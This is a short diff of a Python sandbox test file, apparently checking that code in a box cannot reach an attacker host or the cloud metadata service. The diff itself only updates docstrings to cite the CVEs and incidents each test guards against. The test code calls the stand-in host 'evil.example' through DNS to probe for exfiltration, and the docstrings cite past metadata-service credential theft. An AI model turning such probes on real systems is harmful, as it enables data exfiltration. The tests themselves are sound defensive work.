@@ -15,7 +15,7 @@ EVIL = "evil.example"
 def test_exfiltration(attempt: Attempt, netns_egress: Any, box: Any) -> None:
     """What is not allowed is refused and reported as the box's: by name, by address, by another's name.
 
-    CVE-2025-55284: DNS.
+    Known from: Claude Code CVE-2025-55284 (by DNS).
     """
     done = attempt(f"""
 tell("name", lambda: socket.getaddrinfo({EVIL!r}, 443))
@@ -76,7 +76,7 @@ def test_leaf_is_shared(attempt: Attempt) -> None:
 def test_host_loopback(attempt: Attempt) -> None:
     """The host's own loopback, and a cloud's metadata service, are not reached.
 
-    Capital One, 2019: credentials from the metadata service.
+    Known from: Kubernetes CVE-2020-8558, and Capital One's loss of 2019 by the metadata service.
     """
     port = os.environ["OUTSIDE_PORT"]
     done = attempt(f"""
